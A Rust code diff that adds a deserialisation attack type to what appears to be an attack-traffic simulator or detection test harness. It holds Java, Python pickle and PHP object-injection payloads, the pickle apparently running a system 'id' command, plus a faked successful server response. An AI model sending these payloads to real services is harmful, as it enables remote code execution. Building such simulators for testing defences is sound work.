@@ -183,6 +183,23 @@ pub(crate) static XXE: Kind = Kind {
     ..SQL_ERROR
 };
 
+pub(crate) static DESERIALISATION: Kind = Kind {
+    name: "deserialisation",
+    says: "serialised objects of Java, Python and PHP; success shows what they ran",
+    step: |attack, world| {
+        const PAYLOADS: &[&str] = &[
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXNyADRvcmcuYXBhY2hl",
+            "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAlpZCA+IC90bXCUhZRSlC4=",
+            r#"O:8:\"Exploit_\":1:{s:3:\"cmd\";s:2:\"id\";}"#,
+        ];
+        let body = format!(r#"{{"state":"{}","n":{}}}"#, PAYLOADS[attack.nth % PAYLOADS.len()], attack.nth);
+        let told = Body::json(r#"{"status":"restored","log":"uid=33(www-data) gid=33(www-data)"}"#);
+        let exchange = Exchange::ask("POST", "/session/restore").with(Body::json(body)).answer(200, told);
+        attack.say_either(world, exchange, (400, "invalid_state"));
+    },
+    ..SQL_ERROR
+};
+
 pub(crate) static LOG4SHELL: Kind = Kind {
     name: "log4shell",
     says: "JNDI lookups in headers; success makes the server fetch a class",
